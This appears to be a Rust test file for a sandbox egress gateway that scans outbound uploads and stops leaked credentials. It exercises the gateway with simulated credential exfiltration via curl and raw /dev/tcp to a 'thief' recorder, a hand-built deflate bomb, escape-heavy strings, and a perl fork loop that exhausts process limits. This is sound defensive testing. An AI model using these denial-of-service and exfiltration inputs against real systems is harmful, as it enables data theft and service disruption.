//! Contents so long that a thread of their own scans them: what arrives is what was
//! sent, and what may not leave stops where it begins, however it is cut, and
//! whoever else sends at the time.

use std::io::Read;
use std::path::PathBuf;
use std::time::Duration;

use outgate_harness::{Identity, Lab, eventually, lab_tests};

use crate::recorder::Recorder;
use crate::{Credential, HOST, PORT, assert_contained, assert_told, bash, confined, thief};

/// Content of so many bytes that repeats nothing and is no text.
fn noise(bytes: usize, mut state: u64) -> Vec<u8> {
    let mut content = Vec::with_capacity(bytes);
    while content.len() < bytes {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        content.extend(state.to_le_bytes());
    }
    content.truncate(bytes);
    content
}

/// A file in the folder that commands may read.
fn given(lab: &Lab, name: &str, content: &[u8]) -> PathBuf {
    let path = lab.folder("given", Identity::Own).join(name);
    std::fs::write(&path, content).expect("a file");
    path
}

/// Members of an archive, each of which becomes three hundred times as long.
fn archive(members: usize) -> Vec<u8> {
    // Local header (APPNOTE 4.3.7): deflated, a name of one letter, no length.
    let mut member = b"PK\x03\x04\x14\0\0\0\x08".to_vec();
    member.resize(26, 0);
    member.extend([1, 0, 0, 0, b'a']);
    // A block with codes of its own (RFC 1951 3.2.7): a letter, and that 19,999 times again.
    member.extend(b"\xed\xc1\x31\x01\0\0\0\xc2\xa0\xac\xeb\x5f\xc2\x1a\x1e\x40\x01");
    member.extend([0; 18]);
    member.extend(b"\xf0\x60");
    member.repeat(members)
}

/// The content of a request with chunks (RFC 9112 7.1), its trailers behind it.
fn dechunked(sent: &[u8]) -> (Vec<u8>, Vec<u8>) {
    let line = |from: &[u8]| {
        from.windows(2)
            .position(|part| part == b"\r\n")
            .expect("a line")
    };
    let head = sent
        .windows(4)
        .position(|part| part == b"\r\n\r\n")
        .expect("a head");
    let mut rest = &sent[head + 4..];
    let mut content = Vec::new();
    loop {
        let end = line(rest);
        let length = std::str::from_utf8(&rest[..end]).expect("digits");
        let length = usize::from_str_radix(length, 16).expect("a length");
        rest = &rest[end + 2..];
        if length == 0 {
            return (content, rest.to_vec());
        }
        content.extend(&rest[..length]);
        rest = &rest[length + 2..];
    }
}

lab_tests! {
    fn what_arrives_is_what_was_sent(lab) {
        let thief = thief();
        for (name, processors) in [("beside", None), ("alone", Some(["taskset", "-c", "0"]))] {
            let sandbox = || match processors {
                None => confined(lab, Identity::Own),
                Some(words) => confined(lab, Identity::Own).wrap(&words),
            };
            for bytes in [262_143, 262_145, 300_000, 524_289, 5_000_000, 9_999_999] {
                let content = noise(bytes, bytes as u64);
                let path = given(lab, "content", &content);
                let path = path.display();
                let outcome = sandbox().run(&bash(&format!("curl -sS -T {path} $URL/up")));
                assert_eq!(outcome.stdout, "arrived\n", "{name} {bytes}: {outcome}");
                let sent = thief.take_all();
                assert!(sent.ends_with(&content), "{name} {bytes}: {} came", sent.len());
                let outcome = sandbox().run(&bash(&format!("cat {path} | curl -sS -T - $URL/up")));
                assert_eq!(outcome.stdout, "arrived\n", "{name} {bytes} in chunks: {outcome}");
                let (arrived, _) = dechunked(&thief.take_all());
                assert!(arrived == content, "{name} {bytes} in chunks: {} came", arrived.len());
            }
        }
    }

    fn many_at_once_do_not_mix(lab) {
        let count = 6;
        let ports: Vec<u16> = (PORT..PORT + count).collect();
        let recorders: Vec<Recorder> = ports.iter().map(|port| Recorder::start(*port)).collect();
        let credential = Credential::new();
        let mut sandbox = confined(lab, Identity::Own);
        let mut uploads = Vec::new();
        let mut contents = Vec::new();
        for port in &ports {
            let mut content = noise(6_000_000, u64::from(*port));
            if port % 2 == 1 {
                content.splice(4_000_000..4_000_000, format!(" {} ", credential.text()).into_bytes());
            }
            let path = given(lab, &port.to_string(), &content);
            sandbox = sandbox
                .allow(&format!("http://{HOST}:{port}"))
                .pin(&format!("{HOST}:{port}=127.0.0.1:{port}"));
            uploads.push(format!("curl -sS -T {} http://{HOST}:{port}/up & ", path.display()));
            contents.push(content);
        }
        let outcome = sandbox.run(&bash(&format!("{} wait", uploads.concat())));
        for ((port, recorder), content) in ports.iter().zip(&recorders).zip(&contents) {
            let sent = recorder.take_all();
            if port % 2 == 1 {
                assert_contained(&outcome, &sent, &credential, "together");
                assert!(sent.len() > 1_000_000, "{port}: it was a stream: {outcome}");
            } else {
                assert!(sent.ends_with(content), "{port}: {} came: {outcome}", sent.len());
            }
        }
        assert_told(&outcome, "together");
    }

    fn a_credential_stops_it_wherever_it_lies(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let text = format!(" {} ", credential.text());
        for at in [262_100, 262_144, 294_890, 524_270, 786_400, 1_048_560, 3_333_333, 3_999_950] {
            let mut content = noise(4_000_000, at as u64);
            content.splice(at..at, text.bytes());
            let path = given(lab, "content", &content);
            let script = format!("curl -sS -T {} $URL/up", path.display());
            let outcome = confined(lab, Identity::Own).run(&bash(&script));
            let sent = thief.take_all();
            let place = at.to_string();
            assert_contained(&outcome, &sent, &credential, &place);
            assert_told(&outcome, &place);
            assert!(sent.len() < at + 1024, "{place}: {} came", sent.len());
            assert_ne!(outcome.stdout, "arrived\n", "{place}: {outcome}");
        }
    }

    fn nobody_waits_for_what_others_send_however_much_is_made_of_it(lab) {
        let thief = thief();
        let kinds = [
            ("archive", archive(500)),
            ("escapes", br"%5c\u0025&#37;=25".repeat(60_000)),
            ("lines", [b"\n".repeat(70_000), archive(500)].concat()),
        ];
        for (name, content) in kinds {
            let path = given(lab, name, &content);
            let script = format!(
                "for i in 1 2 3 4; do (curl -sS -o /dev/null -T {} $URL/up; echo upload) & done; sleep 0.3; \
                 for i in 1 2 3 4 5; do curl -sS -o /dev/null $URL/get; curl -sS -o /dev/null -d small=$i $URL/post; echo small; done; wait",
                path.display(),
            );
            // On one processor, however many there are: the uploads take longer than the rest.
            let sandbox = confined(lab, Identity::Own).wrap(&["taskset", "-c", "0"]);
            let outcome = sandbox.run(&bash(&script));
            assert!(!thief.take_all().is_empty(), "{name}: {outcome}");
            let lines: Vec<&str> = outcome.stdout.lines().collect();
            assert_eq!(lines.len(), 9, "{name}: {outcome}");
            let first = lines.iter().position(|line| *line == "upload").expect("an upload");
            assert!(first >= 5, "{name}: they waited behind it: {outcome}");
        }
    }

    fn nobody_waits_for_messages_or_heads_of_which_much_is_made(lab) {
        let thief = thief();
        let bomb = archive(500);
        let message = crate::streams::frame(0x82, bomb.get(..60_000).unwrap_or(&bomb));
        let path = given(lab, "messages", &[crate::streams::HANDSHAKE.as_bytes(), &message.repeat(8)].concat());
        let talks = format!("(exec 3<>/dev/tcp/{HOST}/{PORT}; cat {} >&3; timeout 20 cat <&3 >/dev/null; echo upload)", path.display());
        let packed = given(lab, "packed", &bomb[..20_000]);
        let heads = format!(
            "(B=$(base64 -w0 {}); for i in 1 2 3 4 5 6 7 8; do curl -sS -o /dev/null -H \"X-A: $B\" $URL/get; done; echo upload)",
            packed.display(),
        );
        for (name, attack) in [("messages", talks), ("heads", heads)] {
            let script = format!(
                "for i in 1 2 3 4; do {attack} & done; sleep 0.3; \
                 for i in 1 2 3 4 5; do curl -sS -m 2 -o /dev/null $URL/get && echo small; done; kill $(jobs -p); wait",
            );
            let sandbox = confined(lab, Identity::Own).wrap(&["taskset", "-c", "0"]);
            let outcome = sandbox.run(&bash(&script));
            assert!(!thief.take_all().is_empty(), "{name}: {outcome}");
            let small = outcome.stdout.lines().filter(|line| *line == "small").count();
            assert_eq!(small, 5, "{name}: each waited two seconds at most: {outcome}");
        }
    }

    fn trailers_come_behind_all_of_it_or_not_at_all(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let content = noise(3_000_000, 7);
        let path = given(lab, "content", &content);
        for (value, arrives) in [("fine", true), (credential.text(), false)] {
            let script = format!(
                "exec 3<>/dev/tcp/{HOST}/{PORT}; (printf 'POST /t HTTP/1.1\\r\\nHost: {HOST}:{PORT}\\r\\nTransfer-Encoding: chunked\\r\\nTE: trailers\\r\\nTrailer: x-sum\\r\\n\\r\\n2dc6c0\\r\\n'; cat {}; printf '\\r\\n0\\r\\nX-Sum: {value}\\r\\n\\r\\n') >&3; timeout 5 head -n 1 <&3",
                path.display(),
            );
            let outcome = confined(lab, Identity::Own).run(&bash(&script));
            let sent = thief.take_all();
            if arrives {
                let (arrived, trailers) = dechunked(&sent);
                let trailers = String::from_utf8_lossy(&trailers).to_lowercase();
                assert!(arrived == content, "{} came: {outcome}", arrived.len());
                assert!(trailers.contains("x-sum: fine"), "{trailers}: {outcome}");
            } else {
                assert_contained(&outcome, &sent, &credential, "trailers");
                assert_told(&outcome, "trailers");
                assert!(!sent.ends_with(b"\r\n\r\n"), "it never became whole: {outcome}");
            }
        }
    }

    fn what_came_before_a_pause_goes_on(lab) {
        let thief = thief();
        let path = given(lab, "content", &noise(3_000_000, 9));
        let script = format!(
            "(cat {}; sleep 8; printf end) | curl -sS -T - $URL/up",
            path.display(),
        );
        let running = confined(lab, Identity::Own).start(&bash(&script));
        let mut sent = Vec::new();
        let came = eventually(Duration::from_secs(7), || {
            sent.extend(thief.take());
            sent.len() >= 3_000_000
        });
        assert!(came, "{} came while the sender pauses", sent.len());
        let outcome = running.finish();
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
    }

    fn content_that_is_given_up_ends_alone(lab) {
        let thief = thief();
        let path = given(lab, "content", &noise(2_000_000, 11));
        let script = format!(
            "for i in 1 2 3 4 5; do (cat {0}; sleep 0.$i; cat {0}) | timeout 0.$i curl -sS -T - $URL/up; done; curl -sS -T {0} $URL/last",
            path.display(),
        );
        let outcome = confined(lab, Identity::Own).run(&bash(&script));
        assert!(outcome.stdout.ends_with("arrived\n"), "{outcome}");
        let sent = thief.take_all();
        let whole = sent.windows(7).filter(|part| *part == b"\r\n0\r\n\r\n").count();
        assert_eq!(whole, 0, "none of those became whole");
    }

    fn an_origin_that_gives_up_leaves_no_work_behind(lab) {
        let origin = std::net::TcpListener::bind((std::net::Ipv4Addr::LOCALHOST, PORT + 1))
            .expect("a port");
        std::thread::spawn(move || {
            for mut stream in origin.incoming().flatten() {
                std::thread::spawn(move || {
                    let mut some = vec![0; 262_144];
                    stream.read_exact(&mut some).ok();
                    // Nothing comes while the slow part of the content is being looked at.
                    stream.set_read_timeout(Some(Duration::from_millis(30))).ok();
                    while let Ok(1..) = stream.read(&mut some) {}
                });
            }
        });
        let thief = thief();
        // What is escaped again and again takes long to look at.
        let slow = [noise(340_000, 15), b"%2525252541".repeat(60_000)].concat();
        let slow = given(lab, "slow", &slow);
        let fine = noise(1_000_000, 17);
        let path = given(lab, "fine", &fine);
        let script = format!(
            "for i in $(seq 60); do curl -sS -o /dev/null -T {} http://{HOST}:{1}/up; done; SECONDS=0; curl -sS -T {2} $URL/up; echo $SECONDS",
            slow.display(), PORT + 1, path.display(),
        );
        let sandbox = confined(lab, Identity::Own)
            .allow(&format!("http://{HOST}:{}", PORT + 1))
            .pin(&format!("{HOST}:{0}=127.0.0.1:{0}", PORT + 1));
        let outcome = sandbox.run(&bash(&script));
        assert!(thief.take_all().ends_with(&fine), "{outcome}");
        let waited = outcome.stdout.lines().last().expect("a time");
        let waited: u64 = waited.parse().expect("seconds");
        assert!(waited < 4, "it waited behind others: {outcome}");
    }

    fn it_arrives_where_no_more_threads_are_to_be_had(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let fine = noise(3_000_000, 13);
        let mut bad = fine.clone();
        bad.splice(2_000_000..2_000_000, format!(" {} ", credential.text()).into_bytes());
        for (name, content) in [("fine", fine), ("bad", bad)] {
            let path = given(lab, "content", &content);
            // Has the gateway come, takes every process that the account may have, then becomes the client.
            let script = format!(
                "curl -sS -o /dev/null http://127.0.0.1:{PORT}/first; exec perl -e 'while (defined(my $p = fork)) {{ if (!$p) {{ sleep 3; exit }} }} print \"$!\\n\"; exec @ARGV' curl -sS -T {} http://127.0.0.1:{PORT}/up",
                path.display(),
            );
            let sandbox = confined(lab, Identity::Nobody)
                .allow(&format!("http://127.0.0.1:{PORT}"))
                .wrap(&["prlimit", "--nproc=60"]);
            let outcome = sandbox.run(&bash(&script));
            let sent = thief.take_all();
            assert!(outcome.stdout.contains("temporarily unavailable"), "{outcome}");
            if name == "fine" {
                assert!(outcome.stdout.ends_with("arrived\n"), "{outcome}");
                assert!(sent.ends_with(&content), "{} came: {outcome}", sent.len());
            } else {
                assert_contained(&outcome, &sent, &credential, name);
                assert_told(&outcome, name);
                assert!(sent.len() > 1_000_000, "it was a stream: {outcome}");
            }
        }
    }
}
